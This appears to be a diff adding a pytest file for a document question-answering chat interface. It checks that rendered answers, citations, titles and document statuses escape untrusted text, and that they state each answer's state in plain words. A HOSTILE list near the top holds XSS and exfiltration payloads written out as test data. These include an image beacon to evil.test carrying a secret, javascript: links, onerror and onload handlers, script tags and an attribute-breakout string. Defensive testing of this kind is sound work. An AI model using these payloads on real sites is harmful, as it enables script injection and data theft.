@@ -1,0 +1,252 @@
+"""What the pages show: hostile text stays text, honest states are said in words, sources name their page."""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime
+from html import unescape
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+
+from app.services.shapes import Citation, DocumentPublic, MessagePublic
+from app.ui.format import (
+    answer_markdown,
+    documents_html,
+    is_unfinished,
+    message_rows,
+    progress_rows,
+    question_html,
+    size_words,
+    sources_html,
+    why_html,
+)
+
+HOSTILE = (
+    "![pixel](http://evil.test/x.png?d=secret)",
+    "![pixel][ref]\n\n[ref]: http://evil.test/x.png",
+    "\\![pixel](http://evil.test/x.png)",
+    "!\\[pixel](http://evil.test/x.png)",
+    "[click](javascript:alert(1))",
+    "[click\\](http://evil.test)",
+    "<img src=http://evil.test/x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<svg onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "</div></details><img src=x>",
+    "<http://evil.test/auto>",
+    "http://evil.test/bare and www.evil.test and me@evil.test",
+    "`<img src=x>` and ``<b>``",
+    "```html\n<img src=http://evil.test>\n![a](http://evil.test)\n```",
+    "```\nnever closed <img src=x>\n\n<script>",
+    "~~~\n<img src=x>\n~~~",
+    "> ```\n> <img src=x>\n> ```",
+    "text [P1](http://evil.test)",
+    "$$\\href{http://evil.test}{x}$$",
+    "&lt;img src=x&gt; <!-- <img> -->",
+    "line\n\n<div>\n\n<img src=x>",
+)
+OURS = {"p", "ol", "ul", "li", "strong", "em", "code", "pre", "br", "blockquote", "span", "div", "table", "h1", "h2"}
+
+# The same dialect as the browser's: CommonMark with tables and addresses made into links, HTML let through.
+dialect = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("table")
+
+
+class Markup(HTMLParser):
+    """The tags and attribute names a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_an_answer_holds_no_image_no_link_and_no_foreign_tag(text: str) -> None:
+    markdown = answer_markdown(text, ["P1"])
+    html = dialect.render(markdown)
+    assert Markup(html).tags <= OURS, html
+    assert Markup(html).attributes <= {"class"}, html
+    assert "://" not in markdown
+    assert "www." not in markdown
+
+
+def test_what_is_not_let_through_is_read_as_it_was_written() -> None:
+    text = 'See ![x](http://a.test/?d=1), <img src="x">, &lt;b&gt;, [a](b), me@a.test and www.a.test.'
+    html = dialect.render(answer_markdown(text))
+    assert unescape(re.sub(r"<[^>]+>", "", html)).strip() == text
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("place", ["question", "title", "quote", "document", "reason", "why"])
+def test_text_from_outside_is_escaped_wherever_it_stands(text: str, place: str) -> None:
+    html = {
+        "question": lambda: question_html(text),
+        "title": lambda: sources_html([citation(title=text)]),
+        "quote": lambda: sources_html([citation(quote=text)]),
+        "document": lambda: documents_html([document(title=text)], own=True),
+        "reason": lambda: documents_html([document(status="failed", reason=text)], own=True),
+        "why": lambda: why_html(trace(reason=f"rules: {text}", models=[text])),
+    }[place]()
+    assert not Markup(html).tags & {"img", "script", "svg", "iframe", "a"}
+    assert not [name for name in Markup(html).attributes if name.startswith("on") or name in ("src", "href", "style")]
+    # One line that begins with a tag: Markdown reads the whole as HTML and nothing of it as Markdown.
+    assert "\n" not in html
+    assert dialect.render(html).strip() == html.strip()
+
+
+def test_an_attribute_cannot_be_left() -> None:
+    html = documents_html([document(title='" onmouseover="alert(1)')], own=True)
+    assert "onmouseover" in html
+    assert "onmouseover" not in Markup(html).attributes
+
+
+def test_emphasis_lists_tables_and_code_stay() -> None:
+    html = dialect.render(answer_markdown("**Yes**, with `code`:\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
+    for kept in ("<strong>Yes</strong>", "<code>code</code>", "<ol>", "<td>2</td>"):
+        assert kept in html
+
+
+def test_a_draft_in_a_code_block_keeps_its_lines_and_placeholders() -> None:
+    html = dialect.render(answer_markdown("Send this:\n\n```\nDear [Name],\n\nyours\n```\n\nGood luck."))
+    assert "<pre>Dear &#91;Name],<br><br>yours</pre>" in html
+    assert "<p>Good luck.</p>" in html
+
+
+def test_known_labels_are_set_off_and_stay_readable() -> None:
+    html = dialect.render(answer_markdown("It is England [P1][G2], not [P7].", ["P1", "G2"]))
+    assert html.count('class="cite"') == 2
+    assert re.sub(r"<[^>]+>", "", html).strip() == "It is England [P1][G2], not [P7]."
+
+
+def test_sources_are_split_into_yours_and_industry_with_page_standing_and_quote() -> None:
+    html = sources_html([citation(), citation(label="G1", kb="global", title="Guide", page=2, standing="none")])
+    yours, industry = html.split("Industry")
+    for shown in ("Yours", "[P1]".replace("[", "&#91;"), "Deal", "signed, page 3", "governed by the laws of England"):
+        assert shown in yours
+    assert "Guide" in industry
+    assert ">page 2<" in industry
+    assert sources_html([]) == ""
+
+
+def test_lines_of_a_printed_page_flow_and_lyrics_stay_lines() -> None:
+    printed = "This agreement is governed by the laws of England and Wales,\nand the courts have\njurisdiction."
+    assert "and Wales, and the courts have jurisdiction" in sources_html([citation(quote=printed)])
+    assert "stay with me<br>until dawn" in sources_html([citation(quote="stay with me\nuntil dawn")])
+
+
+@pytest.mark.parametrize(
+    ("state", "citations", "said"),
+    [
+        ("extractive", 1, "no language model wrote this"),
+        ("direct", 0, "without looking anything up"),
+        ("nothing_found", 0, "Nothing found"),
+        ("partial", 1, "Incomplete"),
+        ("failed", 0, "failed"),
+        ("answered", 0, "names no source"),
+    ],
+)
+def test_every_state_but_a_cited_answer_is_said_in_words(state: str, citations: int, said: str) -> None:
+    rows = message_rows(message(state=state, citations=[citation()] * citations))
+    assert said in rows[1]["content"]
+
+
+def test_a_cited_answer_needs_no_words() -> None:
+    rows = message_rows(message(citations=[citation()]), trace())
+    assert 'class="state' not in rows[1]["content"]
+    assert [row["role"] for row in rows] == ["assistant", "assistant"]
+    assert "Why this answer" in rows[1]["content"]
+
+
+def test_an_answer_stopped_before_its_first_word_says_so() -> None:
+    assert message_rows(message(state="partial", text=""))[0]["content"] == "Stopped before the answer began."
+
+
+def test_an_answer_on_its_way_shows_what_is_done_until_words_come() -> None:
+    assert "Searching &lt;b&gt;" in progress_rows("", [], "Searching <b>")[0]["content"]
+    assert progress_rows("So far ", ["P1"], "x")[0]["content"] == "So far"
+
+
+def test_why_says_intent_kbs_models_and_time_in_plain_words() -> None:
+    text = re.sub(r"<[^>]+>", " ", why_html(trace()))
+    for said in (
+        "about your own documents (decided by rules: asks for a fact)",
+        "your documents and the industry knowledge base",
+        "minilm and bm25",
+        "Missing: openai",
+        "2 passages considered, 1 put before the answer",
+        "Search took 12 ms",
+    ):
+        assert said in text
+
+
+def test_why_of_a_direct_answer_speaks_of_no_search() -> None:
+    text = why_html(trace(direct=True, reason="model: whatever"))
+    assert "without a search (decided by the language model)" in text
+    assert "Searched" not in text
+
+
+def test_documents_show_state_progress_reason_and_what_can_be_done() -> None:
+    going = documents_html([document(status="embedding", progress=0.4)], own=True)
+    assert 'value="40"' in going
+    assert "Indexing" in going
+    failed = documents_html([document(status="failed", reason="It is damaged.")], own=True)
+    assert "It is damaged." in failed
+    assert 'data-action="retry"' in failed
+    assert 'aria-label="Delete Deal"' in failed
+    ready = documents_html([document()], own=True)
+    assert "3 pages" in ready
+    assert "14 passages" in ready
+    assert 'data-action="retry"' not in ready
+    assert "<button" not in documents_html([document()], own=False)
+
+
+def test_unfinished_is_what_changes_by_itself() -> None:
+    assert [is_unfinished(document(status=s)) for s in ("received", "stored", "parsing", "embedding", "indexing")] == [
+        True
+    ] * 5
+    assert [is_unfinished(document(status=s)) for s in ("ready", "failed")] == [False] * 2
+
+
+def test_sizes_as_people_read_them() -> None:
+    assert [size_words(n) for n in (15, 121_400, 50_000_000, 1_250_000)] == ["15 bytes", "121 kB", "50 MB", "1.2 MB"]
+
+
+def citation(**changed: Any) -> Citation:
+    fields: dict[str, Any] = {
+        "label": "P1", "document_id": "d", "chunk_id": "c", "title": "Deal", "kb": "personal", "page": 3,
+        "quote": "governed by the laws of England", "standing": "signed",
+    }  # fmt: skip
+    return Citation.model_validate(fields | changed)
+
+
+def message(**changed: Any) -> MessagePublic:
+    fields: dict[str, Any] = {
+        "id": "2", "conversation": "1", "role": "assistant", "text": "England [P1].", "intent": "personal",
+        "state": "answered", "citations": [], "trace_id": "t", "rating": None, "created": datetime.now(UTC),
+    }  # fmt: skip
+    return MessagePublic.model_validate(fields | changed)
+
+
+def document(**changed: Any) -> DocumentPublic:
+    fields: dict[str, Any] = {
+        "id": "d1", "title": "Deal", "kb": "personal", "artist_id": None, "standing": "none", "status": "ready",
+        "reason": None, "progress": 1.0, "pages": 3, "chunks": 14, "bytes": 121_000, "sha256": "", "created": datetime.now(UTC),
+    }  # fmt: skip
+    return DocumentPublic.model_validate(fields | changed)
+
+
+def trace(**changed: Any) -> dict[str, Any]:
+    fields: dict[str, Any] = {
+        "intent": "personal", "direct": False, "reason": "rules: asks for a fact", "kbs": ["personal", "global"],
+        "models": ["minilm", "bm25"], "missing": ["openai"], "milliseconds": {"embed": 8.0, "search": 4.0},
+        "candidates": [{"outcome": "prompt"}, {"outcome": "cut"}], "prompt": [],
+    }  # fmt: skip
+    return fields | changed
